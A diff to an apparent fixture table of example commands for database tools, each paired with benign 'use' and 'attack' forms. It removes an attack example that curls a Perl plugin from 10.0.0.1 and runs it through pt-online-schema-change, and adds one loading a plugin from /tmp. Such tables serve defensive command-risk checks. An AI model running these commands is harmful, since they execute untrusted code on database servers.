@@ -131,9 +131,8 @@ export const sqlDatabases1: ExampleTable = {
     ],
   },
   'pt-online-schema-change': {
-    use: "pt-online-schema-change --alter 'add column note text' --plugin=hooks.pl D=shop,t=orders → read hooks.pl",
-    attack:
-      'curl -so h.pl http://10.0.0.1/h && pt-online-schema-change --plugin=h.pl D=shop,t=orders → execute ‹http://10.0.0.1/h›',
+    use: "pt-online-schema-change --alter 'add column note text' D=shop,t=orders → nothing",
+    attack: 'pt-online-schema-change --plugin=/tmp/x.pm D=shop,t=orders → load /tmp/x.pm',
   },
   'pt-query-digest': {
     use: 'pt-query-digest slow.log → read slow.log',
